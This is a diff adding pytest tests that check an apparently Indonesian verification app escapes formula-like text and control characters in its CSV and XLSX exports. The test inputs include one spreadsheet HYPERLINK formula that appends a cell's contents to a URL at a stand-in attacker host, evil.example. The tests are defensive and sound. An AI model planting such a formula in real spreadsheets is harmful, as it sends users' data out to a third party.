@@ -8,8 +8,11 @@ from dataclasses import dataclass
 from typing import Any
 
 import pytest
+import sqlalchemy as sa
 from openpyxl import load_workbook
 
+from infra.db import transaction
+from infra.tables import Decision, Document, Submission
 from tests.support.workspace import Workspace
 
 LAKTASI, TOILET = "P2H-02-LAKTASI", "P2H-02-TOILET"
@@ -284,3 +287,96 @@ def test_a_unit_without_a_submission_still_gets_an_empty_report_and_findings(
     assert "Tidak ada dokumen yang diunggah" in report.text
     rows = csv_rows(ws.client.get(ws.path(scene.b, "/findings.csv"), headers=ws.verifier).content)
     assert ["|".join(row) for row in rows] == [FINDINGS_HEADER]
+
+
+# Text a spreadsheet would read as a formula (or a DDE command) if written raw.
+FORMULA_LIKE = [
+    pytest.param('=HYPERLINK("https://evil.example/?"&B2,"klik")', id="equals-hyperlink"),
+    pytest.param("+62 711 123", id="plus"),
+    pytest.param("-1+1", id="minus"),
+    pytest.param("@SUM(A1:A9)", id="at"),
+    pytest.param("\t=1+1", id="tab"),
+    pytest.param("\r=1+1", id="carriage-return"),
+]
+
+
+def _name_file(ws: Workspace, doc_id: str, name: str) -> None:
+    with transaction(ws.sessions) as session:
+        session.execute(sa.update(Document).where(Document.id == doc_id).values(original_name=name))
+
+
+def _store_note(ws: Workspace, unit: str, criterion: str, note: str) -> None:
+    """A note as it may already sit in the database (written before input was checked)."""
+    with transaction(ws.sessions) as session:
+        session.execute(
+            sa.update(Decision)
+            .where(
+                Decision.criterion_id == criterion,
+                Decision.submission_id
+                == sa.select(Submission.id).where(Submission.unit_code == unit).scalar_subquery(),
+            )
+            .values(note=note)
+        )
+
+
+def xlsx_cells(body: bytes, title: str) -> list[list[Any]]:
+    """Every cell of a sheet (full mode: data types are kept)."""
+    return [list(row) for row in load_workbook(io.BytesIO(body))[title].iter_rows()]
+
+
+@pytest.mark.parametrize("text", FORMULA_LIKE)
+def test_text_that_looks_like_a_formula_is_exported_as_text_in_csv_and_xlsx(
+    ws: Workspace, text: str
+) -> None:
+    unit = ws.unit(name=text)
+    (doc,) = ws.upload(unit, TOILET, ["passed"])
+    _name_file(ws, doc, text)
+    assert ws.decide(unit, TOILET, decision="revision_requested", note="x").status_code == 201
+    _store_note(ws, unit, TOILET, text)
+
+    rows = csv_rows(matrix_get(ws, ".csv").content)
+    (row,) = [r for r in rows if r[1] == unit and r[4] == TOILET]
+    assert (row[2], row[11]) == ("'" + text, "'" + text)  # the quote keeps Excel from evaluating
+    cells = xlsx_cells(matrix_get(ws, ".xlsx").content, "Matriks")
+    (xrow,) = [r for r in cells if r[1].value == unit and r[4].value == TOILET]
+    in_xml = text.replace("\r", "\n")  # a line break in a cell is a newline
+    for cell in (xrow[2], xrow[11]):
+        assert (cell.value, cell.data_type) == (in_xml, "s")
+
+    findings = ws.client.get(ws.path(unit, "/findings.csv"), headers=ws.verifier)
+    assert [r[2] for r in csv_rows(findings.content)[1:]] == ["'" + text]
+    findings_xlsx = ws.client.get(ws.path(unit, "/findings.xlsx"), headers=ws.verifier)
+    (name_cell,) = [r[2] for r in xlsx_cells(findings_xlsx.content, "Temuan")[1:]]
+    assert (name_cell.value, name_cell.data_type) == (in_xml, "s")
+
+
+def test_numbers_stay_numbers_and_plain_text_is_not_quoted(ws: Workspace, scene: Scene) -> None:
+    cells = xlsx_cells(matrix_get(ws, ".xlsx").content, "Matriks")
+    (row,) = [r for r in cells if r[1].value == scene.a and r[4].value == LAKTASI]
+    assert (row[2].value, row[8].value, row[8].data_type) == ("Kota Uji Alpha", 2, "n")
+
+
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [
+        pytest.param("baris satu\x0bbaris dua", "baris satu\nbaris dua", id="vertical-tab"),
+        pytest.param("halaman\x0cberikut", "halaman\nberikut", id="form-feed"),
+        pytest.param("bel\x07 dan\x1b escape", "bel dan escape", id="bell-and-escape"),
+        pytest.param("tab\tdan\nbaris", "tab\tdan\nbaris", id="tab-and-newline-kept"),
+    ],
+)
+def test_a_control_character_already_stored_in_a_note_does_not_break_the_xlsx(
+    ws: Workspace, stored: str, shown: str
+) -> None:
+    unit = ws.unit()
+    ws.upload(unit, TOILET, ["passed"])
+    assert ws.decide(unit, TOILET, decision="revision_requested", note="x").status_code == 201
+    _store_note(ws, unit, TOILET, stored)
+
+    answer = matrix_get(ws, ".xlsx")
+    assert answer.status_code == 200
+    cells = xlsx_cells(answer.content, "Matriks")
+    (row,) = [r for r in cells if r[1].value == unit and r[4].value == TOILET]
+    assert row[11].value == shown
+    (csv_row,) = [r for r in csv_rows(matrix_get(ws, ".csv").content) if r[1] == unit][-1:]
+    assert all("\x0b" not in v and "\x07" not in v for v in csv_row)
